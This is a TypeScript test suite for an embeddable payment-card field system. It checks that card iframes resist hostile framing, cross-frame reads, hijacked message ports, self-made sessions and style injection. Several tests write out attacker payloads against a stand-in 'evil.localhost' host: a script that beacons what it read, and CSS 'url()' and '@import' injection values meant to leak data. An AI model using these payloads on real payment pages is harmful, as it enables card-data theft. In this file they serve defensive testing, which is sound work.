import { createServer } from 'node:http';
import { callByHost, eventually, serveHttp, useStack } from '@sluice/testing';
import { openBrowser } from '@sluice/testing/browser';
import { sharePlatform } from '../platform.ts';
import { openShopPage, serveShop, typeCard } from './shop-page.ts';

const cardNumber = '5555555555554444';

const world = useStack(async (closing) => {
  const platform = await sharePlatform();
  const { baseUrl } = platform.stack;
  const vault = `http://fields.localhost:${new URL(baseUrl).port}`;
  // The oldest, because its pages must be as safe.
  const loader = `${vault}/elements/0.1.0/elements.js`;
  const { port } = new URL(await serveShop(closing, loader));
  const shop = `http://shop.localhost:${port}`;
  const evil = `http://evil.localhost:${port}`;
  const applicationFor = (...allowed_origins: string[]) =>
    platform.createApplication({
      type: 'public',
      permissions: ['token:create', 'token:update'],
      allowed_origins,
    });
  const mine = await applicationFor(shop);
  const advertiser = await applicationFor(shop);
  const server = await platform.createApplication({
    permissions: ['token:create', 'token:use'],
    rules: [{ priority: 1, container: '/', transform: 'reveal', permissions: ['token:read'] }],
  });
  const { openPage } = await openBrowser();
  const settings = { url: shop, vault, key: mine.key, application: mine.id };

  /** What the shop's server does with a nonce: for one token, for a frame. */
  const authorize = (nonce: string, token: string, more: object = { fields: true }) => {
    const conditions = [{ attribute: 'id', operator: 'equals', value: token }];
    const rules = [{ priority: 1, conditions, transform: 'reveal', permissions: ['token:read'] }];
    return platform.call('POST', '/sessions/authorize', { key: server.key, body: { nonce, rules, ...more } });
  };
  return { platform, vault, shop, evil, mine, advertiser, openPage, settings, authorize };
});

/** The page of a shop whose card is typed in. */
async function openPaying(closing: AsyncDisposableStack) {
  const opened = await world.current.openPage(closing);
  await openShopPage(opened, world.current.settings);
  await typeCard(opened, cardNumber);
  return opened;
}

const fieldUrl = (application: string) => `${world.current.vault}/elements/field?application=${application}`;

test('no page but those of allowed_origins embeds a field, and a change of them is in force when its answer goes out', async () => {
  await using closing = new AsyncDisposableStack();
  const { platform, openPage, evil, mine, settings, vault, shop } = world.current;
  const opened = await openPage(closing);
  await openShopPage(opened, settings);
  expect(await opened.page.locator('iframe').count()).toBe(3);

  const other = await openPage(closing);
  const failed = openShopPage(other, { ...settings, url: evil });
  await eventually(
    'the browser refuses the frames',
    async () => other.seen.errors.filter((text) => /frame-ancestors|refused to connect/i.test(text)).length >= 3,
  );
  await other.page.close();
  await expect(failed).rejects.toThrow();

  const ancestors = async () => {
    const { headers } = await callByHost(platform.stack.baseUrl, 'GET', `/elements/field?application=${mine.id}`, {
      headers: { Host: new URL(vault).host },
    });
    return /frame-ancestors ([^;]*)/.exec(headers.get('content-security-policy') ?? '')?.[1];
  };
  for (const origins of [[], [evil], [shop]]) {
    const body = { name: 'A', permissions: ['token:create', 'token:update'], allowed_origins: origins };
    expect((await platform.manage('PUT', `/applications/${mine.id}`, body)).status).toBe(200);
    expect(await ancestors()).toBe(origins[0] ?? "'none'");
  }
});

test('a page cannot look into a field; into a frame of its own it can', async () => {
  await using closing = new AsyncDisposableStack();
  const { page } = await openPaying(closing);
  const look = (frame: number) =>
    page.evaluate((at) => {
      const other = window.frames[at] as Window & { sluice?: unknown };
      const inside = [() => other.document.body.innerHTML, () => other.location.href, () => other.sluice];
      return inside.map((read) => {
        try {
          return typeof read();
        } catch (error) {
          return (error as Error).name;
        }
      });
    }, frame);
  for (const frame of [0, 1, 2]) expect(await look(frame)).toEqual(['SecurityError', 'SecurityError', 'SecurityError']);
  await page.evaluate(() => document.body.append(document.createElement('iframe')));
  expect(await look(3)).toEqual(['string', 'string', 'undefined']);
});

test('a page of a destination that is embedded beside the fields runs nothing, and reads nothing where it runs', async () => {
  await using closing = new AsyncDisposableStack();
  const caught: string[] = [];
  const attacker = await serveHttp(closing, ({ url = '' }, response) => {
    if (url.startsWith('/caught')) caught.push(url);
    const script = `
      const tell = (what) => fetch('http://evil.localhost:' + port + '/caught/' + what, { mode: 'no-cors' });
      const port = new URLSearchParams(location.search).get('port');
      let read = 'nothing';
      for (let at = 0; at < parent.length; at++) {
        try { if (parent[at] !== window && parent[at].sluice) read = 'field'; } catch {}
      }
      tell(read);`;
    response.setHeader('Content-Type', 'text/html').end(`<!doctype html><script>${script}</script>`);
  });
  const { port } = new URL(attacker);
  const { platform } = world.current;
  const proxy = await platform.createProxy({ destination_url: attacker, require_auth: false });
  const { page, seen } = await openPaying(closing);
  const embed = (src: string) =>
    page.evaluate((url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })), src);
  await embed(`${platform.stack.baseUrl}/proxy/?svc-proxy-key=${proxy.key}&port=${port}`);
  await eventually('the script is blocked', async () => seen.errors.some((text) => text.includes('Blocked script')));
  expect(caught).toEqual([]);
  await embed(`http://evil.localhost:${port}/?port=${port}`);
  await eventually('the same page runs on its own host', async () => caught.length > 0);
  expect(caught).toEqual(['/caught/nothing']);
});

describe('a frame hears', () => {
  test('only the page around it, and only the first port that it hands over', async () => {
    await using closing = new AsyncDisposableStack();
    const { openPage, shop, mine } = world.current;
    const { page } = await openPage(closing);
    await page.goto(shop);
    const [fromOther, fromPage, afterwards] = await page.evaluate(
      async ({ url, start }) => {
        const answers: number[] = [];
        // Another frame hands over a port first.
        const greet = async () => {
          const field = window.frames[window.frames.length - 1] as Window;
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => answers.push(1);
          const sibling = document.createElement('iframe');
          document.body.append(sibling);
          const inside = sibling.contentWindow as Window & typeof globalThis;
          inside.eval('(field, port) => field.postMessage("sluice", "*", [port])')(field, port2);
          port1.postMessage(start);
          await new Promise((resolve) => setTimeout(resolve, 300));
          sibling.remove();
        };
        const { said } = await window.speak(url, start, greet);
        const until = async (holds: () => boolean) => {
          while (!holds()) await new Promise((resolve) => setTimeout(resolve, 20));
        };
        await until(() => said.some((message) => (message as { emit?: string }).emit === 'ready'));
        const late = new MessageChannel();
        const lateSaid: unknown[] = [];
        late.port1.onmessage = ({ data }) => lateSaid.push(data);
        const field = [...document.querySelectorAll('iframe')].find(({ src }) => src === url);
        field?.contentWindow?.postMessage('sluice', '*', [late.port2]);
        late.port1.postMessage({ do: 'start', ...start });
        await new Promise((resolve) => setTimeout(resolve, 300));
        return [answers.length, said.length, lateSaid.length];
      },
      {
        url: fieldUrl(mine.id),
        start: { kind: 'number', id: 'a', group: 'g', key: mine.key, title: 'x', themes: [], lang: 'en' },
      },
    );
    expect({ fromOther, afterwards }).toEqual({ fromOther: 0, afterwards: 0 });
    expect(fromPage).toBeGreaterThan(0);
  });

  test('nothing that tells a value, whatever is sent again or made up', async () => {
    await using closing = new AsyncDisposableStack();
    const { page } = await openPaying(closing);
    const answers = await page.evaluate(async () => {
      const ids = window.heard.flatMap((message) => (message as { id?: string }).id ?? []);
      await window.shop.tokenize();
      const sent = window.heard.filter((message) => (message as { do?: string }).do !== undefined);
      const { port, said } = await window.speak(
        (document.querySelector('iframe') as HTMLIFrameElement).src,
        sent.find((message) => (message as { do?: string }).do === 'start') as object,
      );
      for (const message of sent) port.postMessage(message);
      for (const what of ['take', 'read', 'value', 'patch', 'authorized', 'reveal']) {
        port.postMessage({ do: what, call: 99, fields: ids, token: ids[0], failed: false, options: { type: 'token' } });
      }
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return JSON.stringify([said, window.heard]);
    });
    expect(answers).toContain('"complete":true');
    expect(answers).not.toContain(cardNumber);
    expect(answers).not.toMatch(/['"]987/);
  });
});

test.each([
  ['of another Application, an advertisement’s, gets nothing', 'advertiser', 'The fields are not complete'],
  ['of the shop’s Application does, which is what it would have been for', 'mine', undefined],
] as const)('a frame with the group and ids of the shop’s fields %s', async (_, who, expected) => {
  await using closing = new AsyncDisposableStack();
  const { page } = await openPaying(closing);
  const application = world.current[who];
  const outcome = await page.evaluate(
    async ({ url, key }) => {
      const starts = window.heard.filter((message) => (message as { do?: string }).do === 'start') as {
        id: string;
        group: string;
      }[];
      const group = starts[0]?.group;
      const { port, said } = await window.speak(url, { kind: 'text', id: 'mine', group, key });
      port.postMessage({ do: 'tokenize', call: 1, fields: starts.map(({ id }) => id), options: { type: 'card' } });
      const answer = () => said.find((message) => (message as { call?: number }).call === 1);
      while (!answer()) await new Promise((resolve) => setTimeout(resolve, 20));
      return answer() as { problem?: { title: string }; token?: { type: string; data?: unknown } } | undefined;
    },
    { url: fieldUrl(application.id), key: application.key },
  );
  expect(outcome?.problem?.title).toBe(expected);
  expect(outcome?.token?.type).toBe(expected === undefined ? 'card' : undefined);
  expect(outcome?.token?.data).toBeUndefined();
});

test('a frame that was made for one Application is refused the key of another by the vault', async () => {
  await using closing = new AsyncDisposableStack();
  const { openPage, settings, advertiser } = world.current;
  const opened = await openPage(closing);
  await openShopPage(opened, { ...settings, key: advertiser.key });
  await typeCard(opened, cardNumber);
  const status = await opened.page.evaluate(() => window.shop.tokenize().catch(({ status }) => status));
  expect(status).toBe(403);
});

test('a script that takes the port of the security code gets nothing to compare its guesses with', async () => {
  await using closing = new AsyncDisposableStack();
  const { platform, mine } = world.current;
  const { page } = await openPaying(closing);
  const orders = await page.evaluate(async () => {
    const { postMessage } = MessagePort.prototype;
    let port: MessagePort | undefined;
    MessagePort.prototype.postMessage = function (this: MessagePort, data: { do?: string }, ...more: []) {
      if (data.do === 'clear') port = this;
      else postMessage.call(this, data, ...more);
    };
    // The loader gives the port away by an order that never arrives.
    window.mounted.cvc?.clear();
    const answers: unknown[] = [];
    for (const options of [
      { type: 'token' },
      {},
      { type: 'card_number' },
      { type: 'token', deduplicate_token: true },
    ]) {
      const call = crypto.randomUUID();
      const answer = new Promise((resolve) => {
        port?.addEventListener('message', ({ data }) => data.call === call && resolve(data));
      });
      if (port) postMessage.call(port, { do: 'tokenize', call, fields: ['cvc'], options });
      answers.push(await answer);
    }
    return answers as { problem?: unknown; token?: unknown }[];
  });
  expect(orders.map(({ problem, token }) => ({ problem, token }))).toEqual(
    Array.from({ length: 4 }, () => ({
      problem: { title: 'The fields are not complete', fields: ['number'] },
      token: undefined,
    })),
  );
  // Nor does a guess find a token that exists, by the key that the page has.
  const guess = { type: 'token', data: { cvc: '987' }, deduplicate_token: true };
  const made = [];
  for (let i = 0; i < 2; i++) made.push(await platform.call('POST', '/tokens', { key: mine.key, body: guess }));
  expect(made.map(({ status }) => status)).toEqual([201, 201]);
});

test('a session that a script of the page makes for itself is not authorized as one of a frame', async () => {
  await using closing = new AsyncDisposableStack();
  const { platform, authorize, mine, vault } = world.current;
  const { page } = await openPaying(closing);
  const { id: token } = await page.evaluate(() => window.shop.tokenize());
  const make = (url: string) =>
    page.evaluate(
      ({ url, key, application }) =>
        fetch(url, { method: 'POST', headers: { 'SVC-API-KEY': key, ...application } }).then(
          (response) => response.json() as Promise<{ nonce: string; session_key: string }>,
          () => undefined,
        ),
      { url, key: mine.key, application: url.startsWith(vault) ? { 'SVC-FIELDS-APPLICATION': mine.id } : {} },
    );
  const made = await make(`${platform.stack.baseUrl}/sessions`);
  expect(await make(`${vault}/sessions`)).toBeUndefined();
  expect((await authorize(made?.nonce ?? '', token)).status).toBe(403);
  // Without `fields: true` the script would read the card from wherever it sends the key.
  expect((await authorize(made?.nonce ?? '', token, {})).status).toBe(200);
  const read = await platform.call('GET', `/tokens/${token}`, { key: made?.session_key ?? '' });
  expect(read.body.data.number).toBe(cardNumber);
});

test('a style loads nothing and breaks nothing; what is allowed is applied', async () => {
  await using closing = new AsyncDisposableStack();
  const asked: string[] = [];
  const attacker = createServer(({ url = '' }, response) => {
    asked.push(url);
    response.end();
  }).listen(0, '127.0.0.1');
  closing.defer(() => void attacker.close());
  await new Promise((resolve) => attacker.once('listening', resolve));
  const address = attacker.address() as { port: number };
  const leak = `url(http://evil.localhost:${address.port}/leak)`;
  const { page } = await openPaying(closing);
  await page.evaluate((url) => {
    const hostile = {
      'background-color': url,
      'font-family': `x; } @import ${url}; body { background: ${url}`,
      color: `image-set(${url} 1x)`,
      padding: '9'.repeat(1_000_000),
      background: url,
      content: url,
      'background-image': url,
      cursor: url,
    };
    window.mounted.number?.update({ theme: { base: hostile, focus: hostile, placeholder: hostile, invalid: hostile } });
    window.mounted.cvc?.update({ theme: { base: { color: 'rgb(1, 2, 3)' } } });
  }, leak);
  const colorOf = (id: string) =>
    page
      .locator(`#${id} iframe`)
      .contentFrame()
      .locator('input')
      .evaluate((input) => getComputedStyle(input).color);
  await eventually('the allowed style is applied', async () => (await colorOf('cvc')) === 'rgb(1, 2, 3)');
  await page.evaluate((url) => document.body.style.setProperty('background-image', url), leak);
  await eventually('the page itself may load what it likes', async () => asked.length > 0);
  expect(asked).toEqual(['/leak']);
  expect((await page.evaluate(() => window.shop.tokenize())).type).toBe('card');
});
